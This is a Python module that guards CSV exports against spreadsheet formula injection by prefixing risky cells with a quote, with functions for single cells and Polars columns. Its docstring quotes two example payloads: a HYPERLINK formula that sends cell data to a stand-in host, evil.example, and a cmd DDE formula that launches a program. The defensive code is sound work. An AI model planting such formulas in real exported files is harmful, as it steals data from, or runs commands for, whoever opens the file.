"""Keeping spreadsheet formulas out of the CSV files sharedground writes ("CSV injection").

A cell that begins with `=`, `+`, `-` or `@` is read by Excel, LibreOffice and Google
Sheets as a formula (`=HYPERLINK("http://evil.example/?d="&A2)`, `+cmd|' /C calc'!A0`),
and a leading tab or carriage return lets such a cell slip past naive filters. Following
OWASP's advice, every CSV writer puts a single quote before such a cell, which spreadsheets
show as text. Two choices keep the mapping exactly invertible, so that an importer can take
the quote off again and `export -> import -> export` stays byte-identical:

* a cell that already begins with `'` gets one more, so every written cell that begins
  with `'` was prefixed by the writer, and `restore` simply removes one leading `'`;
* a plain negative number (`-3`, `-0.25`, `-1e-05`) is written as it is: a spreadsheet reads
  it as a number, never a formula, and numeric columns (differences, statistics) stay
  numbers. `-2+3` is not a plain number and is quoted. Since such numbers never begin with
  `'`, leaving them alone does not make `restore` ambiguous.

Use `neutralise`/`restore` for single cells (the csv module) and `neutralise_expr`/
`restore_expr` for Polars columns. Every new CSV writer (codings, contacts, ...) should call
one of them; every reader of a file the system wrote should undo it.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:  # Polars is imported where it is used: the csv-module writers need none
    import polars as pl

#: The first characters that make a spreadsheet read a cell as a formula (OWASP's list).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
#: The prefix the writer adds, which spreadsheets take as "this cell is text".
QUOTE = "'"
_NUMBER = r"-(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][-+]?[0-9]+)?"
_NEGATIVE = re.compile(_NUMBER)
# Rust's `$` (Polars) is the end of the text; Python's would also match before a final "\n",
# so Python uses fullmatch.
_NEGATIVE_NUMBER = f"^{_NUMBER}$"
_NEEDS_QUOTE = r"^['=+\-@\t\r]"


def needs_quote(value: str) -> bool:
    """True when `value` must be written with a leading quote."""
    return bool(value) and value[0] in (QUOTE, *TRIGGERS) and not _NEGATIVE.fullmatch(value)


def neutralise(value: str) -> str:
    """The cell as a CSV writer must write it: never read as a formula."""
    return QUOTE + value if needs_quote(value) else value


def restore(value: str) -> str:
    """The cell `neutralise` was given (for any `value` it can return)."""
    return value[1:] if value.startswith(QUOTE) else value


def neutralise_expr(expr: pl.Expr) -> pl.Expr:
    """`neutralise` for a string column (nulls stay null)."""
    import polars as pl

    flagged = expr.str.contains(_NEEDS_QUOTE) & ~expr.str.contains(_NEGATIVE_NUMBER)
    # `replace("^", ...)` rather than `lit + expr`, which would name the result "literal".
    return pl.when(flagged).then(expr.str.replace("^", QUOTE)).otherwise(expr)


def restore_expr(expr: pl.Expr) -> pl.Expr:
    """`restore` for a string column (nulls stay null)."""
    import polars as pl

    return pl.when(expr.str.starts_with(QUOTE)).then(expr.str.slice(1)).otherwise(expr)


def neutralise_frame(frame: pl.DataFrame, columns: Iterable[str] | None = None) -> pl.DataFrame:
    """The string columns neutralised (other types are numbers, dates or booleans).

    `columns` limits the work to the columns that may hold free text, when the caller
    knows the others cannot begin with a trigger (it costs about as much as writing the
    file, so a million-row export spends it only where it can matter).
    """
    import polars as pl

    wanted = set(frame.columns if columns is None else columns)
    return frame.with_columns(
        neutralise_expr(pl.col(name)).alias(name)
        for name, dtype in frame.schema.items()
        if dtype == pl.String and name in wanted
    )


def neutralise_row(row: Mapping[str, Any]) -> dict[str, str]:
    """A csv.DictWriter row: None as blank, every value as neutralised text."""
    return {k: "" if v is None else neutralise(str(v)) for k, v in row.items()}


def neutralise_cells(cells: Iterable[Any]) -> list[str]:
    """A csv.writer row: None as blank, every value as neutralised text."""
    return ["" if v is None else neutralise(str(v)) for v in cells]


class NeutralisingWriter:
    """A `csv.writer` that neutralises every cell it writes (`neutralise_cells`)."""

    def __init__(self, handle: Any, **options: Any) -> None:
        import csv

        self._writer = csv.writer(handle, **options)

    def writerow(self, cells: Iterable[Any]) -> Any:
        return self._writer.writerow(neutralise_cells(cells))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for cells in rows:
            self.writerow(cells)
